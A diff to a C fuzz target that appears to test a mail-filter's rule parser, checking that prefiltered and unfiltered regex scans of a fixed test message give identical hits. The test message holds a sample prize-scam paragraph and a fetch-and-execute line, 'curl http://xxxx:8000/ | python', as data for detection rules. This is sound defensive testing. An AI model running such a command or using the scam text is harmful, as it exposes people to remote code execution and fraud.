@@ -1,6 +1,12 @@
 /*
  * fuzz_rules.c - libFuzzer target: the rule-file parser, then the loaded
  * rules run on a fixed message so compiled regexes are exercised too.
+ * The message is scanned twice, with the one-pass prefilter and without
+ * (every regex run by PCRE2 on its own): the hits, subrules and details
+ * must be the same, or the prefilter skipped a regex that matches (a
+ * required literal reqlit.c missed, or Vectorscan missing a literal).
+ * The message has lines longer than 64 bytes and a body past 256, so that
+ * the scans cross the SIMD block sizes where Vectorscan's bugs live.
  */
 #include "autoconfig.h"
 
@@ -20,8 +26,42 @@
 
 int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
 
-static const char MSG[] = "From: a <a@b.test>\nTo: c@d.test\nSubject: Hello WORLD\n"
-			  "X-Mailer: x\n\nbody text http://x.test/ click here\n";
+static const char MSG[] =
+	"From: a <a@b.test>\nTo: c@d.test\nSubject: Hello WORLD, a subject line longer than "
+	"sixty-four bytes [ok]\nX-Mailer: x\nX-List: [ ip=192.0.2.1 rdns=mx.b.test helo=mx.b.test "
+	"by=d.test ident= envfrom= intl=0 id= auth= msa=0 ]\n\n"
+	"body text http://x.test/ click here\n"
+	"[ a bracketed line of text that runs on for more than sixty-four bytes ]\n"
+	"Dear friend, please send your FULL NAME, address, phone number and a copy of "
+	"your passport to claim the $1,000,000 prize: reply to winner@x.test now!!!\n"
+	"curl http://xxxx:8000/ 2>&1 | python\n";
+
+/* append - every hit of h as "name detail\n" */
+static void append(struct buf *b, const struct hits *h)
+{
+	for (size_t i = 0; i < h->n; i++)
+		buf_printf(b, "%s %s\n", h->v[i].name, h->v[i].detail ? h->v[i].detail : "-");
+}
+
+/* run - scan MSG; the hits and subrules as text (caller frees) */
+static char *run(struct engine *e)
+{
+	struct hits sub = { 0 };
+	struct buf b;
+	struct scan *sc = scan_new(e);
+
+	buf_init(&b);
+	sc->no_dns = true;
+	sc->hits.subrules = &sub;
+	mboxfile_feed(sc, MSG, strlen(MSG));
+	scan_finish(sc);
+	append(&b, &sc->hits);
+	buf_puts(&b, "--\n");
+	append(&b, &sub);
+	scan_free(sc);
+	hits_clear(&sub);
+	return b.data;
+}
 
 int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 {
@@ -40,10 +80,13 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 		abort();
 	if (rs) {
 		struct engine *e = engine_new(config_parse_buf("f", "", 0, &err), rs, stage_registry);
-		struct scan *sc = scan_new(e);
-		mboxfile_feed(sc, MSG, strlen(MSG));
-		scan_finish(sc);
-		scan_free(sc);
+		char *on = run(e);
+		rules_set_prefilter(rs, false);
+		char *off = run(e);
+		if (strcmp(on, off) != 0)
+			abort();
+		free(on);
+		free(off);
 		engine_unref(e);
 	}
 	diag_free(&d);
